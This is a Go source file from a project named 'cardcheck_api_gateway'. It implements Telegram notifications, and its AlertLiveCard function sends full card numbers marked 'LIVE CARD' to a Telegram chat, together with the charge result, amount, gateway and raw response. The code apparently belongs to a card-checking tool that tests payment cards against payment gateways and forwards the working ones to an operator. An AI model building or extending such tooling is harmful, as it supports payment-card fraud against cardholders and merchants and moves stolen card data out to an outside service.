package notify

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"unicode/utf8"

	tgbotapi "github.com/go-telegram-bot-api/telegram-bot-api/v5"
	"go.uber.org/zap"

	"cardcheck_api_gateway/internal/model"
)

const maxAlertBodyLen = 3500

// Sink delivers side-channel alerts. Implementations never return an
// error to the caller: delivery failures are logged and dropped so the
// response path cannot be held hostage to a notification endpoint.
type Sink interface {
	AlertAdmin(ctx context.Context, maskedCard string, verdict model.Verdict, raw string)
	AlertLiveCard(ctx context.Context, cc, message, amount, gateway, raw string)
	AlertError(ctx context.Context, text string)
}

type botAPI interface {
	Send(c tgbotapi.Chattable) (tgbotapi.Message, error)
}

type telegramSink struct {
	bot         botAPI
	adminChatID int64
	liveChatID  int64
	logger      *zap.Logger
}

// NewTelegramSink connects to the Telegram bot API. AdminChatID receives
// debug alerts and error reports, liveChatID receives charged-card
// notifications.
func NewTelegramSink(botToken string, adminChatID, liveChatID int64, logger *zap.Logger) (Sink, error) {
	bot, err := tgbotapi.NewBotAPI(botToken)
	if err != nil {
		return nil, fmt.Errorf("failed to connect to telegram bot API: %w", err)
	}

	logger.Info("connected to telegram bot API", zap.String("bot", bot.Self.UserName))
	return &telegramSink{
		bot:         bot,
		adminChatID: adminChatID,
		liveChatID:  liveChatID,
		logger:      logger,
	}, nil
}

func (s *telegramSink) AlertAdmin(ctx context.Context, maskedCard string, verdict model.Verdict, raw string) {
	text := fmt.Sprintf("CARD: %s\nVERDICT: %s\n\n%s", maskedCard, verdict, prettyTruncated(raw))
	s.send(s.adminChatID, text)
}

func (s *telegramSink) AlertLiveCard(ctx context.Context, cc, message, amount, gateway, raw string) {
	text := fmt.Sprintf("LIVE CARD\nCC: %s\nRESULT: %s\nAMOUNT: %s\nGATEWAY: %s\n\n%s",
		cc, message, amount, gateway, prettyTruncated(raw))
	s.send(s.liveChatID, text)
}

func (s *telegramSink) AlertError(ctx context.Context, text string) {
	s.send(s.adminChatID, text)
}

func (s *telegramSink) send(chatID int64, text string) {
	msg := tgbotapi.NewMessage(chatID, text)
	if _, err := s.bot.Send(msg); err != nil {
		s.logger.Error("failed to send telegram alert", zap.Error(err), zap.Int64("chat_id", chatID))
		return
	}
	s.logger.Debug("telegram alert sent", zap.Int64("chat_id", chatID))
}

// prettyTruncated indents the body when it is valid JSON and caps it at
// the Telegram-safe alert length, cutting on a rune boundary.
func prettyTruncated(raw string) string {
	text := raw
	var buf bytes.Buffer
	if err := json.Indent(&buf, []byte(raw), "", "  "); err == nil {
		text = buf.String()
	}
	if len(text) > maxAlertBodyLen {
		cut := maxAlertBodyLen
		for cut > 0 && !utf8.RuneStart(text[cut]) {
			cut--
		}
		text = text[:cut]
	}
	return text
}
